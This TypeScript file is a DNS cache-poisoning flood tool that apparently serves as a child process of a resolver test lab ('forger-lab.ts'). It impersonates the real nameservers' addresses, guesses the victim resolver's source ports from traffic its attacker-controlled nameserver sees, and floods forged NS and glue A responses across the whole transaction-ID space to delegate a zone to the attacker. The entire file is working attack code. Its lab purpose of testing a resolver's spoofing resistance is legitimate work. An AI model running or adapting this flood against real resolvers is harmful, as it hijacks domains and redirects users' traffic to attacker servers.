// Floods the victim with forged responses, in the attacker's namespace, which has the true nameservers' addresses too. Started by forger-lab.ts.
import { randomInt } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { setImmediate } from 'node:timers/promises';
import packet from 'dns-packet';

export interface FloodPlan {
  seconds: number;
  victim: string;
  /** Whose responses are forged. */
  servers: string[];
  /** Name and type of the questions that are answered. */
  questions: [name: string, type: 'NS' | 'SOA'][];
  /** Every response delegates this zone to the attacker's nameserver. */
  forgedApex: string;
  attacker: string;
}

/** Ports that Nameplate sends from at a time, for each IP version. */
const MOST_PORTS = 8;
/** For how long a port is guessed after it was seen. */
const PORT_MS = 10_000;
const EPHEMERAL = [32_768, 61_000] as const;
/** Rounds between two looks at the news. */
const ROUNDS = 64;

/** The ports that the attacker's nameserver sees most; where it sees none twice, any. */
function portWatch() {
  const seen = new Map<number, number[]>();
  return {
    note(port: number) {
      seen.set(port, [...(seen.get(port) ?? []), Date.now()]);
    },
    likely(): number[] {
      for (const [port, times] of seen) {
        const recent = times.filter((at) => at > Date.now() - PORT_MS);
        if (recent.length > 0) seen.set(port, recent);
        else seen.delete(port);
      }
      const shared = [...seen].filter(([, times]) => times.length > 1);
      const most = shared.toSorted((a, b) => b[1].length - a[1].length).slice(0, MOST_PORTS);
      return most.length > 0
        ? most.map(([port]) => port)
        : Array.from({ length: MOST_PORTS }, () => randomInt(...EPHEMERAL));
    },
  };
}

function forgedResponses({ questions, forgedApex, attacker }: FloodPlan): Buffer[] {
  return questions.map(([name, type]) =>
    packet.encode({
      type: 'response',
      questions: [{ name, type }],
      authorities: [{ type: 'NS', name: forgedApex, ttl: 3600, data: `ns.${forgedApex}` }],
      additionals: [{ type: 'A', name: `ns.${forgedApex}`, ttl: 3600, data: attacker }],
    }),
  );
}

/** Each id in turn to every port, from every server. `onSent`: called with the number of packets about every second. */
async function flood(plan: FloodPlan, ports: () => number[], onSent: (packets: number) => void): Promise<never> {
  const responses = forgedResponses(plan);
  const sockets = new Map<number, Socket[]>();
  let sent = 0;

  async function aim(): Promise<Socket[]> {
    const wanted = ports();
    for (const [port, open] of sockets) {
      if (wanted.includes(port)) continue;
      for (const socket of open) socket.close();
      sockets.delete(port);
    }
    for (const port of wanted)
      if (!sockets.has(port)) sockets.set(port, await Promise.all(plan.servers.map((server) => from(server, port))));
    return [...sockets.values()].flat();
  }

  async function from(address: string, port: number): Promise<Socket> {
    const socket = createSocket({ type: 'udp4', reuseAddr: true });
    socket.on('error', () => {});
    socket.bind(53, address);
    await once(socket, 'listening');
    socket.connect(port, plan.victim);
    await once(socket, 'connect');
    return socket;
  }

  for (let id = randomInt(0x10000), aimed = await aim(), aimedAt = Date.now(); ; await setImmediate()) {
    if (Date.now() - aimedAt > 500) {
      onSent(sent);
      [sent, aimed, aimedAt] = [0, await aim(), Date.now()];
    }
    for (let round = 0; round < ROUNDS; round++) {
      id = (id + 1) & 0xffff;
      for (const response of responses) {
        response.writeUInt16BE(id, 0);
        for (const socket of aimed) socket.send(response);
      }
      sent += responses.length * aimed.length;
    }
  }
}

const plan: FloodPlan = JSON.parse(process.argv[2] ?? '');
setTimeout(() => process.exit(), plan.seconds * 1000);
process.on('disconnect', () => process.exit());
const watch = portWatch();
process.on('message', ({ port }: { port: number }) => watch.note(port));
await flood(plan, watch.likely, (packets) => process.send?.({ packets }));
